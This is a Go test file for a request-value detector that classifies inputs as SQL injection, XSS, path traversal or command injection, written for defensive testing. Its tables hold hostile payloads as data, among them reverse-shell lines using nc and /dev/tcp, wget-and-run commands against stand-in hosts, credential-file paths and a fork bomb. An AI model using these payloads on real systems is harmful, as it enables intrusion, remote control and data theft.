@@ -1,0 +1,302 @@
+package blacklist
+
+import (
+	"strings"
+	"testing"
+	"time"
+	"unicode/utf8"
+)
+
+func TestDetectorFamilies(t *testing.T) {
+	d := NewDetector(Config{})
+	tests := []struct {
+		name  string
+		value string
+		want  Family
+	}{
+		// SQL injection.
+		{"classic tautology", "x' OR '1'='1", SQLi},
+		{"numeric tautology", "1 or 1=1", SQLi},
+		{"union select", "0 union all select username, password from users", SQLi},
+		{"union select words only", "union select col from", SQLi},
+		{"stacked drop", "1; DROP TABLE users", SQLi},
+		{"comment split keywords", "1/**/UNION/**/SELECT/**/1", SQLi},
+		{"mysql executable comment", "1 /*!50000union*/ select 1", SQLi},
+		{"time based", "1' and sleep(5)#", SQLi},
+		{"catalog probe", "information_schema.tables", SQLi},
+		{"double url encoded", "%2527%2520OR%25201%253D1--", SQLi},
+		{"value after where", "or 4975==4975'", SQLi},
+		{"nosql operator key", "$ne", SQLi},
+		{"nosql bracket", "u_id[$regex]", SQLi},
+		// XSS.
+		{"script tag", "<script>alert(1)</script>", XSS},
+		{"img onerror", `<img src=x onerror=alert(1)>`, XSS},
+		{"attribute breakout", `" onmouseover=alert(document.cookie) "`, XSS},
+		{"javascript uri", "javascript:alert(1)", XSS},
+		{"javascript uri with entity tab", "ja&tab;vascript:alert(1)", XSS},
+		{"fullwidth brackets", "%uff1cscript%uff1ealert(1)%uff1c/script%uff1e", XSS},
+		{"svg onload", "<svg/onload=alert()>", XSS},
+		{"template injection", "{{constructor.constructor('alert(1)')()}}", XSS},
+		{"dom sink bracket", `window["alert"](1)`, XSS},
+		{"unicode escaped", `\u003cscript\u003ealert(1)\u003c/script\u003e`, XSS},
+		{"utf-7", "+ADw-script+AD4-alert(1)+ADw-/script+AD4-", XSS},
+		// Path traversal.
+		{"dotdot", "../../../etc/passwd", Traversal},
+		{"windows dotdot", `..\..\windows\win.ini`, Traversal},
+		{"encoded dotdot", "%2e%2e%2f%2e%2e%2fetc%2fpasswd", Traversal},
+		{"double encoded dotdot", "%252e%252e%252fsecret", Traversal},
+		{"overlong utf-8 dot", "%c0%ae%c0%ae/%c0%ae%c0%ae/etc/issue", Traversal},
+		{"null byte extension", "../../boot.ini%00.png", Traversal},
+		{"sensitive file", "/proc/self/environ", Traversal},
+		{"ssh key", "/home/u/.ssh/id_rsa", Traversal},
+		{"php wrapper", "php://filter/convert.base64-encode/resource=index", Traversal},
+		// Command injection.
+		{"semicolon command", "127.0.0.1; cat /etc/passwd", CmdI},
+		{"pipe command", "x | whoami", CmdI},
+		{"substitution", "$(whoami)", CmdI},
+		{"backticks", "`id`", CmdI},
+		{"and-and", "a && wget http://evil/x.sh", CmdI},
+		{"newline", "name\nnc -e /bin/sh 10.0.0.1 4444", CmdI},
+		{"quote obfuscation", ";w'h'o'am'i", CmdI},
+		{"ifs", "cat${IFS}/etc/passwd;", CmdI},
+		{"glob path", "/???/c?t /e??/p?ss??", CmdI},
+		{"reverse shell", "bash -i >& /dev/tcp/10.0.0.1/8080 0>&1", CmdI},
+		{"shellshock", "() { :;}; /bin/bash -c id", CmdI},
+		{"prefixed command", "nohup ifconfig", CmdI},
+		{"windows batch", "& FOR /F %a IN ('dir /b') DO echo %a", CmdI},
+		{"powershell", "powershell -enc SQBFAFgA", CmdI},
+		{"fork bomb", ":(){ :|:& };:", CmdI},
+	}
+	for _, tc := range tests {
+		t.Run(tc.name, func(t *testing.T) {
+			f := d.Check(tc.value, Context{In: "query", Name: "q"})
+			if f.Family != tc.want {
+				t.Fatalf("Check(%q) = %q (%s, %q), want %q", tc.value, f.Family, f.Reason, f.Evidence, tc.want)
+			}
+			if f.Reason == "" || f.Where.Name != "q" {
+				t.Errorf("finding %+v lacks a reason or context", f)
+			}
+		})
+	}
+}
+
+// Benign values an API sees every day must pass.
+func TestDetectorBenign(t *testing.T) {
+	d := NewDetector(Config{})
+	values := []string{
+		"John O'Brien",
+		"Tom & Jerry",
+		"Rock'n'roll, blues; jazz",
+		"We meet on the 2nd floor (near the lift).",
+		`Die "Union von Europa"`,
+		"a hero; more than",
+		"hello; time he came",
+		"I see, so your alias is not = to your name",
+		"Times & Schedule",
+		"MODULAR ALUMINIO | SELF TAPPING SCREW",
+		"https://example.com/.well-known/openid-configuration",
+		"https://www.example.com/search?q=a+b&lang=en",
+		"2024-01-31T12:00:00Z",
+		"dfc987c2-72e2-4a8e-ad98-e0bf1bc3a01c",
+		"first.last+tag@example.co.uk",
+		"C:/Users/me/report.pdf is 50% done",
+		"price >= 10 and <= 20",
+		"1 + 1 = 2",
+		"select one from the list",
+		"Please call me: 555-0100",
+		"He said \"yes\" -- and left",
+		"-->",
+		"VGhhbmtzLCBmb3IgYWxsIHlvdXIgd29yayBzaW5jZSB5ZWFycyBvbiBDUlMuIEh1bQo/onafe=",
+		"settings",
+		"cat",
+		"head office",
+		"Expected behavior: it works",
+		"<3 you",
+		"x < y && y > z",
+		"{{name}}, your order {{order.id}} shipped",
+		"one... two... three",
+		"file.tar.gz",
+		"中文字符和日本語のテキスト",
+	}
+	for _, v := range values {
+		if f := d.Check(v, Context{}); f.Detected() {
+			t.Errorf("Check(%q) = %s %s (%q), want clean", v, f.Family, f.Reason, f.Evidence)
+		}
+	}
+}
+
+func TestDetectorFamiliesConfig(t *testing.T) {
+	d := NewDetector(Config{Families: []Family{XSS}})
+	if f := d.Check("1' or '1'='1", Context{}); f.Detected() {
+		t.Errorf("SQLi disabled but detected: %+v", f)
+	}
+	if f := d.Check("<script>alert(1)</script>", Context{}); f.Family != XSS {
+		t.Errorf("XSS enabled but got %+v", f)
+	}
+}
+
+func TestEvidenceIsBoundedAndEscaped(t *testing.T) {
+	d := NewDetector(Config{})
+	v := strings.Repeat("a", 500) + "\x01\n<script>alert(1)</script>" + strings.Repeat("b", 500)
+	f := d.Check(v, Context{})
+	if !f.Detected() {
+		t.Fatal("not detected")
+	}
+	if len(f.Evidence) > EvidenceMax+2*len("…")+8*4 {
+		t.Errorf("evidence %d bytes: %q", len(f.Evidence), f.Evidence)
+	}
+	if strings.ContainsAny(f.Evidence, "\x01\n") || !utf8.ValidString(f.Evidence) {
+		t.Errorf("evidence not escaped: %q", f.Evidence)
+	}
+}
+
+func TestMaxValueBytesWindow(t *testing.T) {
+	d := NewDetector(Config{MaxValueBytes: 1024})
+	pad := strings.Repeat("a", 2048)
+	attack := "<script>alert(1)</script>"
+	for name, v := range map[string]string{"head": attack + pad, "tail": pad + attack} {
+		if f := d.Check(v, Context{}); !f.Detected() {
+			t.Errorf("payload at the %s of a long value missed", name)
+		}
+	}
+	// Between the two windows the payload is out of sight: the bound is
+	// real (the firewall's size limits bound what lies there).
+	if f := d.Check(pad+attack+pad, Context{}); f.Detected() {
+		t.Errorf("payload between the windows detected: %+v (window not applied)", f)
+	}
+}
+
+// Hostile inputs must be handled in linear time: no regular expression or
+// decoder may blow up on long runs of the characters it looks for.
+func TestDetectorLinearTime(t *testing.T) {
+	d := NewDetector(Config{MaxValueBytes: 1 << 20})
+	inputs := []string{
+		strings.Repeat("'", 1<<16),
+		strings.Repeat("%25", 1<<15),
+		strings.Repeat("&amp;", 1<<14),
+		strings.Repeat("\\u00", 1<<14),
+		strings.Repeat("/*", 1<<15),
+		strings.Repeat("<a ", 1<<14),
+		strings.Repeat(";", 1<<16),
+		strings.Repeat("{{", 1<<15),
+		strings.Repeat("or 1", 1<<14),
+		strings.Repeat("\xc0\xae", 1<<15),
+		strings.Repeat(";cat ", 1<<13),
+		strings.Repeat("; sudo env A=1 ", 1<<12),
+		strings.Repeat("`id", 1<<14),
+		strings.Repeat("$(", 1<<15),
+		strings.Repeat("{,cat,", 1<<13),
+		strings.Repeat("<script ", 1<<13),
+		strings.Repeat("select 1 from x ", 1<<12),
+		strings.Repeat("../", 1<<14),
+	}
+	for _, in := range inputs {
+		start := time.Now()
+		d.Check(in, Context{})
+		if el := time.Since(start); el > 2*time.Second {
+			// Generous: the race detector slows this tenfold; without it
+			// every input takes well under 100 ms.
+			t.Errorf("input of %d bytes (%q...) took %s", len(in), in[:8], el)
+		}
+	}
+}
+
+func TestNormalise(t *testing.T) {
+	tests := []struct{ in, want string }{
+		{"%253Cscript%253E", "<script>"},
+		{"&lt;b&gt;&#x27;&#39;", "<b>''"},
+		{`\u003c\x3e\u{27}`, `<>'`},
+		{"%c0%ae%c0%ae%c0%af", "../"},
+		{"0x2e0x2e0x2f", "../"},
+		{"a%00b", "ab"},
+		{"%uff1cx%uff1e", "<x>"},
+		{"cat+/etc/passwd", "cat /etc/passwd"},
+		{"100%", "100%"},
+		{"%zz%", "%zz%"},
+	}
+	for _, tc := range tests {
+		if got := normalise(tc.in).decoded; got != tc.want {
+			t.Errorf("normalise(%q) = %q, want %q", tc.in, got, tc.want)
+		}
+	}
+}
+
+func TestConfigValidate(t *testing.T) {
+	tests := []struct {
+		name string
+		c    Config
+		want string // substring of the error; "" for valid
+	}{
+		{"zero", Config{}, ""},
+		{"full default", Config{Enabled: true, Mode: ModeMonitor, Families: []Family{SQLi, XSS}}, ""},
+		{"crs", Config{Tier: TierCRS, ParanoiaLevel: 3}, ""},
+		{"bad mode", Config{Mode: "drop"}, "blacklist.mode"},
+		{"bad tier", Config{Tier: "modsec"}, "blacklist.tier"},
+		{"bad family", Config{Families: []Family{"ldap"}}, "blacklist.families[0]"},
+		{"duplicate family", Config{Families: []Family{XSS, XSS}}, "listed twice"},
+		{"paranoia range", Config{Tier: TierCRS, ParanoiaLevel: 5}, "outside 1-4"},
+		{"paranoia without crs", Config{ParanoiaLevel: 2}, "only the crs tier"},
+		{"small window", Config{MaxValueBytes: 10}, "minimum of 256"},
+	}
+	for _, tc := range tests {
+		t.Run(tc.name, func(t *testing.T) {
+			err := tc.c.Validate()
+			switch {
+			case tc.want == "" && err != nil:
+				t.Fatalf("unexpected error: %v", err)
+			case tc.want != "" && (err == nil || !strings.Contains(err.Error(), tc.want)):
+				t.Fatalf("error %v, want it to mention %q", err, tc.want)
+			}
+		})
+	}
+}
+
+func TestNewPicksTier(t *testing.T) {
+	c, err := New(Config{})
+	if err != nil {
+		t.Fatal(err)
+	}
+	if _, ok := c.(*Detector); !ok {
+		t.Errorf("default tier built %T", c)
+	}
+	if _, err := New(Config{Tier: "nope"}); err == nil {
+		t.Error("invalid config accepted")
+	}
+}
+
+func TestCRSTier(t *testing.T) {
+	if testing.Short() {
+		t.Skip("loads the Core Rule Set")
+	}
+	c, err := New(Config{Tier: TierCRS, ParanoiaLevel: 1})
+	if err != nil {
+		t.Fatal(err)
+	}
+	crs, ok := c.(*CRS)
+	if !ok {
+		t.Fatalf("crs tier built %T", c)
+	}
+	tests := []struct {
+		value string
+		want  Family
+	}{
+		{"1' OR '1'='1' --", SQLi},
+		{"<script>alert(1)</script>", XSS},
+		{"../../../../etc/passwd", Traversal},
+		{"x; wget http://evil.example/x.sh | sh", CmdI},
+		{"Hello, world", None},
+		{"2024-04-01", None},
+	}
+	for _, tc := range tests {
+		f := crs.Check(tc.value, Context{In: "query", Name: "q"})
+		if f.Family != tc.want {
+			t.Errorf("CRS Check(%q) = %+v, want family %q", tc.value, f, tc.want)
+		}
+		if f.Detected() && !strings.HasPrefix(f.Reason, "crs-") {
+			t.Errorf("reason %q does not name a CRS rule", f.Reason)
+		}
+	}
+	if _, err := NewCRS(Config{ParanoiaLevel: 7}); err == nil {
+		t.Error("paranoia level 7 accepted")
+	}
+}
